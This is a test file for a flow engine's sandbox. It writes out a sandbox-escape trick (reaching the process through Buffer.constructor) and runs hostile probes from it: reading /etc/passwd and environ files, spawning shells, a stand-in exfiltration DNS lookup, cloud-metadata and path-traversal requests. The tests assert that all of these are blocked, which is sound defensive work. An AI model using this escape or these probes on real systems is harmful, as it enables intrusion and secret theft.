/**
 * Flows that mean harm, and flows that are only wrong: what a flow reaches that has got out of its sandbox (nothing but its few calls), and that one which loops, leaks,
 * throws or floods is ended, named, switched off and written down, while the others go on.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FlowNode, type Flows, fn, once, receiver, tab, testFlows } from '#test/harness/flows.ts';

let flows: Flows;
let other: Awaited<ReturnType<typeof receiver>>;
beforeAll(async () => { other = await receiver(); flows = await testFlows(); await flows.up(); });
afterAll(async () => { await flows.stop(); await other.close(); });

/** Code that has got out of the function node's sandbox: the host's own Function gives it the process, and that every module of Node. */
const escaped = `
const host = Buffer.constructor('return process')();
const mod = (name) => host.getBuiltinModule(name);
const out = {};
const tried = async (name, act) => { try { const r = await Promise.race([act(), new Promise((ok) => setTimeout(() => ok('nothing came'), 4000))]); out[name] = 'DONE ' + String(r).slice(0, 60); } catch (e) { out[name] = e.code || e.cause?.code || e.name; } };
const connect = (o) => new Promise((ok, no) => mod('net').connect(o).on('connect', () => ok('connected')).on('error', no));
const listen = (o) => new Promise((ok, no) => mod('net').createServer().on('error', no).listen(o, () => ok('listens')));
`;
type Tries = Record<string, string>;
async function attempts(body: string): Promise<Tries> {
  const mark = `M${Math.trunc(performance.now() * 1000)}`;
  await flows.deploy([tab('bad', '坏流程'), once('go', 'bad', 'try'), fn('try', 'bad', `${escaped}(async () => { ${body} node.warn('${mark}' + JSON.stringify(out)); })(); return null;`)]);
  const found = (): string | undefined => flows.logs.find((line) => line.includes(`${mark}{`));
  await expect.poll(() => found() !== undefined, { timeout: 40_000 }).toBe(true);
  const { line } = JSON.parse(found() ?? '{}') as { line: string };
  return JSON.parse(line.slice(line.indexOf(mark) + mark.length)) as Tries;
}

describe('a flow that has got out of its sandbox', () => {
  it('finds an empty environment and no files but those of the flows [C11]', async () => {
    const outside = join(flows.folder, '..', 'beside');
    const out = await attempts(`
      out.env = Object.keys(host.env).join(); out.args = host.execArgv.filter((a) => a.startsWith('--permission')).join();
      for (const [name, path] of [['passwd', '/etc/passwd'], ['parentEnv', '/proc/' + host.ppid + '/environ'], ['ownEnv', '/proc/self/environ'], ['beside', ${JSON.stringify(join(flows.folder, '..'))}], ['source', ${JSON.stringify(join(import.meta.dirname, '..', '..', 'src', 'engine.ts'))}]]) await tried(name, async () => { const fs = mod('fs'); return fs.statSync(path).isDirectory() ? fs.readdirSync(path) : fs.readFileSync(path, 'utf8'); });
      await tried('write', () => mod('fs/promises').writeFile(${JSON.stringify(outside)}, 'x'));
      await tried('link', () => mod('fs/promises').symlink('/etc', ${JSON.stringify(join(flows.folder, 'etc'))}));
      await tried('nodes', () => mod('fs/promises').writeFile(${JSON.stringify(join(import.meta.dirname, '..', '..', 'flows', 'nodes', 'x.js'))}, 'x'));
      await tried('own', () => mod('fs/promises').writeFile(${JSON.stringify(join(flows.folder, 'mine.txt'))}, 'x'));
    `);
    expect(out).toEqual({
      env: '', args: '--permission', passwd: 'ERR_ACCESS_DENIED', parentEnv: 'ERR_ACCESS_DENIED', ownEnv: 'ERR_ACCESS_DENIED', beside: 'ERR_ACCESS_DENIED', source: 'ERR_ACCESS_DENIED',
      write: 'ERR_ACCESS_DENIED', link: 'ERR_ACCESS_DENIED', nodes: 'ERR_ACCESS_DENIED', own: 'DONE undefined',
    });
    expect(existsSync(outside)).toBe(false);
  });

  it('starts no process, no thread, no addon, no debugger, and signals nobody [C11]', async () => {
    const out = await attempts(`
      await tried('spawn', () => new Promise((ok, no) => mod('child_process').spawn('/bin/sh', ['-c', 'id']).on('exit', ok).on('error', no)));
      await tried('exec', async () => mod('child_process').execSync('id'));
      await tried('fork', async () => mod('child_process').fork('x.js'));
      await tried('thread', async () => new (mod('worker_threads').Worker)('1', { eval: true }));
      await tried('binding', async () => host.binding('tcp_wrap'));
      await tried('dlopen', async () => host.dlopen({ exports: {} }, 'x.node'));
      await tried('debugger', async () => mod('inspector').open(0));
      await tried('kill', async () => host.kill(host.ppid, 'SIGKILL'));
      await tried('kill2', async () => host._kill(host.ppid, 9));
      await tried('priority', async () => mod('os').setPriority(host.ppid, 19));
      await tried('flags', async () => mod('v8').setFlagsFromString('--max-old-space-size=4000'));
      await tried('report', async () => host.report.writeReport('/tmp/flows-report.json'));
      await tried('heap', async () => mod('v8').writeHeapSnapshot('/tmp/flows.heapsnapshot'));
      out.sqlite = String(mod('node:sqlite'));
    `);
    const { sqlite, ...rest } = out;
    expect(sqlite).toBe('undefined'); // Node's SQLite opens any file, permissions or not
    expect(Object.entries(rest).filter(([, how]) => how !== 'ERR_ACCESS_DENIED')).toEqual([]);
    expect(Object.keys(rest)).toHaveLength(13);
  });

  it('reaches no network: not the database, not the pages, not a listed host, not a name, not by taking our guard away [C11 W18]', async () => {
    const db = new URL(flows.web.t.url);
    const out = await attempts(`
      await tried('database', () => connect({ host: ${JSON.stringify(db.hostname)}, port: ${Number(db.port || 5432)} }));
      await tried('socket', () => connect({ path: '/var/run/postgresql/.s.PGSQL.5432' }));
      await tried('other', () => connect({ host: '127.0.0.1', port: ${other.port} }));
      await tried('six', () => connect({ host: '::1', port: ${other.port} }));
      await tried('public', () => connect({ host: '8.8.8.8', port: 53 }));
      await tried('fetch', () => fetchIt());
      async function fetchIt() { return (await Buffer.constructor('return fetch')()('http://127.0.0.1:${other.port}/')).status; }
      await tried('http', () => new Promise((ok, no) => mod('http').get('http://127.0.0.1:${new URL(flows.web.url).port}/healthz', ok).on('error', no)));
      await tried('tls', () => new Promise((ok, no) => mod('tls').connect({ host: '127.0.0.1', port: ${other.port} }, ok).on('error', no)));
      await tried('datagram', () => new Promise((ok, no) => { const s = mod('dgram').createSocket('udp4'); s.on('error', no); s.send('x', 53, '127.0.0.1', (e) => (e ? no(e) : ok('sent'))); }));
      await tried('lookup', () => mod('dns/promises').lookup('secret.evil.example'));
      await tried('resolve', () => mod('dns/promises').resolve4('secret.evil.example'));
      await tried('port', () => listen({ port: 0 }));
      await tried('guard', async () => { const s = new (mod('net').Socket)(); s.on('error', () => {}); s.connect(1, '127.0.0.1'); const p = Object.getPrototypeOf(s._handle ?? s); delete p.connect; Object.defineProperty(p, 'connect', { value: () => 0 }); return 'gone'; });
    `);
    expect(Object.entries(out).filter(([, how]) => how.startsWith('DONE') && how !== 'DONE nothing came')).toEqual([]);
    expect(out).toMatchObject({ database: 'EACCES', other: 'EACCES', public: 'EACCES', fetch: 'EACCES', http: 'EACCES', lookup: 'ERR_ACCESS_DENIED', port: 'EACCES' });
    expect(Object.keys(out)).toHaveLength(13);
    expect(other.asked).toEqual([]);
  });

  it('gets from its keeper the calls of the flows and nothing else: no other path, no way around the list [C11 W18]', async () => {
    const alert = await flows.web.alert({ kind: 'sos' });
    const before = await flows.web.t.db.query('select * from alert where id = $1', [alert]);
    const out = await attempts(`
      const ask = (m) => new Promise((ok) => { const id = 900000 + Math.floor(Math.random() * 90000); const hear = (a) => { if (a.id === id) { host.off('message', hear); ok(a.status + ' ' + a.body.slice(0, 40)); } }; host.on('message', hear); host.send({ ...m, id }); });
      const paths = ['/api/v1/alerts/${alert}/close', '/api/v1/flows/../alerts/${alert}/claim', '/api/v1/flows/%2e%2e/alerts/${alert}/claim', '//evil.example/api/v1/flows/x', 'http://127.0.0.1:${other.port}/api/v1/flows/x', '/api/v1/login', '/metrics', '/hooks/aliyun/x/sms-up'];
      for (const p of paths) out[p] = (await ask({ type: 'api', path: p, body: {} })).slice(0, 3);
      out.lookup = (await ask({ type: 'api', path: '/api/v1/flows/lookup', body: {} })).slice(0, 3);
      for (const url of ['http://127.0.0.1:${other.port}/', '${flows.web.url}/api/v1/login', 'http://169.254.169.254/latest/meta-data', 'file:///etc/passwd']) out[url] = await ask({ type: 'http', method: 'GET', url, headers: {}, body: null });
      out.long = await ask({ type: 'http', method: 'GET', url: 'http://x/', headers: {}, body: 'x'.repeat(300000) });
    `);
    const { lookup, long, ...rest } = out;
    expect(lookup).toBe('200');
    expect(long).toMatch(/^0 too many calls at once/);
    for (const [what, answer] of Object.entries(rest)) expect([what, answer]).toEqual([what, expect.stringMatching(/^(403|0 not allowed)/)]);
    expect(await flows.web.t.db.query('select * from alert where id = $1', [alert])).toEqual(before);
    expect(other.asked).toEqual([]);
  });
});

/** A tab that does no harm and says that it lives each second, beside one that does. */
const beside = (bad: FlowNode[]): FlowNode[] => [tab('good', '好流程'), { ...once('tick', 'good', 'live'), repeat: '0.5' }, fn('live', 'good', "node.warn('the good one lives'); return null;"), tab('bad', '坏流程'), ...bad];
const state = async () => (await flows.web.fetch('/api/v1/flows-state', { cookie: await flows.web.cookie('technician') })).body;
type Incident = { what: string; tabName: string | null; nodeName: string | null; detail: string };
async function endedBy(bad: FlowNode[]): Promise<Incident> {
  const known = ((await state()).incidents as unknown[]).length;
  await flows.up();
  await flows.deploy(beside(bad));
  await expect.poll(async () => (await state()).incidents.length, { timeout: 60_000 }).toBe(known + 1);
  const [incident] = (await state()).incidents as Incident[];
  // It is started again without that tab, and the other goes on.
  await flows.up();
  const seen = flows.logs.filter((l) => l.includes('the good one lives')).length;
  await expect.poll(() => flows.logs.filter((l) => l.includes('the good one lives')).length, { timeout: 40_000 }).toBeGreaterThan(seen);
  const file = JSON.parse(readFileSync(join(flows.folder, 'flows.json'), 'utf8')) as FlowNode[];
  expect(file.filter((n) => n.type === 'tab').map((n) => [n['label'], n['disabled']])).toEqual([['好流程', false], ['坏流程', true]]);
  return incident as Incident;
}

describe('a flow that is wrong is cut, named and off; the others go on', () => {
  it('one that never comes back [C11 RF18]', async () => {
    const loop = await endedBy([once('go', 'bad', 'forever'), fn('forever', 'bad', 'while (true) {} ')]);
    expect(loop).toMatchObject({ what: 'stuck', tabName: '坏流程', nodeName: 'forever' });
  }, 120_000);

  it('one that fills the heap, and one that fills what no heap bounds [C11 RF18]', async () => {
    const full = await endedBy([once('go', 'bad', 'leak'), fn('leak', 'bad', 'const all = []; for (;;) all.push(new Array(1000).fill(Math.random()));')]);
    expect(full).toMatchObject({ tabName: '坏流程', nodeName: 'leak' });
    expect(['memory', 'stuck']).toContain(full.what); // collecting a full heap may take longer than a beat
    expect(await endedBy([{ ...once('go', 'bad', 'big'), repeat: '0.2' }, fn('big', 'bad', "const all = context.get('all') ?? []; context.set('all', all); all.push(Buffer.alloc(24 * 1024 * 1024, 1)); return null;")])).toMatchObject({ what: 'memory', tabName: '坏流程', nodeName: 'big' });
  }, 180_000);

  it('one that throws where nobody catches, and one that ends the process [C11 RF18]', async () => {
    expect(await endedBy([once('go', 'bad', 'throws'), fn('throws', 'bad', "Buffer.constructor('return setTimeout')()(() => { throw new Error('nobody catches this'); }, 10); return null;")])).toMatchObject({ what: 'ended', tabName: '坏流程', nodeName: 'throws', detail: 'exit 70' });
    expect(await endedBy([once('go', 'bad', 'exits'), fn('exits', 'bad', "Buffer.constructor('return process')().exit(3);")])).toMatchObject({ what: 'ended', nodeName: 'exits', detail: 'exit 3' });
  }, 180_000);

  it('one that floods [C11 RF18]', async () => {
    const flood = await endedBy([once('go', 'bad', 'round'), fn('round', 'bad', 'return msg;', [['round']])]);
    expect(flood).toMatchObject({ what: 'flood', tabName: '坏流程', nodeName: 'round' });
  }, 120_000);

  it('one that cannot even be started, and that nobody can name, leaves a start without flows, to be mended in the editor [C11 RF18]', async () => {
    await flows.pause();
    flows.again(); // a keeper without the pauses of the ends before
    await flows.up();
    await flows.deploy([tab('bad', '坏流程'), fn('init', 'bad', 'return msg;', [[]], { initialize: "Buffer.constructor('return process')().exit(4);" })]).catch(() => {});
    await expect.poll(async () => (await state()).safe, { timeout: 120_000 }).toBe(true);
    await flows.up();
    expect(((await state()).incidents as Incident[])[0]).toMatchObject({ what: 'unusable' });
    await flows.deploy(beside([]));
    const seen = flows.logs.length;
    await expect.poll(() => flows.logs.slice(seen).some((l) => l.includes('the good one lives')), { timeout: 40_000 }).toBe(true);
  }, 240_000);
});
